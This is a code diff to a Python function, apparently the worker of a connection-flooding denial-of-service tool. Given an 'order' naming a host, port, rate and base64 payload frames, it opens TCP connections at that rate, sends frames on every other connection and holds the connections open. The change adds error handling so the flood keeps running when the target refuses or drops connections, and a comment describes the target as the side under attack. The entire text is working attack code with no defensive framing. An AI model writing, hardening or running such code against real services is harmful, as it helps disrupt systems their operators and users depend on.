@@ -137,12 +137,16 @@ def crowd(order):
         if begun > passed * order["perSecond"]:
             time.sleep(0.001)
             continue
-        connection = socket.create_connection((host, int(port)), timeout=5)
-        if begun % 2:
-            frames = order["frames"]
-            connection.sendall(base64.b64decode(frames[begun // 2 % len(frames)]))
-        connections.append(connection)
         begun += 1
+        # The other side may refuse or end what attacks it.
+        try:
+            connection = socket.create_connection((host, int(port)), timeout=5)
+            connections.append(connection)
+            if begun % 2:
+                frames = order["frames"]
+                connection.sendall(base64.b64decode(frames[begun // 2 % len(frames)]))
+        except OSError:
+            pass
     for connection in connections:
         connection.close()
     return {"received": begun}
